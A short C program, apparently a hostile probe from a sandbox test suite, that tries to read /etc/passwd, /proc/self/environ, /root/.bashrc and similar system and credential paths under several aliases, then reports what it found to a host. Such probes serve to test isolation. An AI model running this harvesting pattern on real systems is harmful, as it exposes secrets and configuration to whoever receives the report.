/* Reads files of the system and of the user, by several names; tells what it found. */
#include "hostile.h"

ANSWER {
    char found[1500] = "";
    const char *const paths[] = {"/etc/passwd", "/proc/self/maps", "/proc/self/environ", "/etc/hostname", "/root/.bashrc",
        "/proc/self/root/etc/passwd", "/proc/self/fd/4", "/proc/self/cwd", "/lib/x86_64-linux-gnu/libc.so.6", ".", "/"};
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        strcat(found, look_into(paths[i]));
        strcat(found, "; ");
    }
    return tell(host, "%s", found);
}
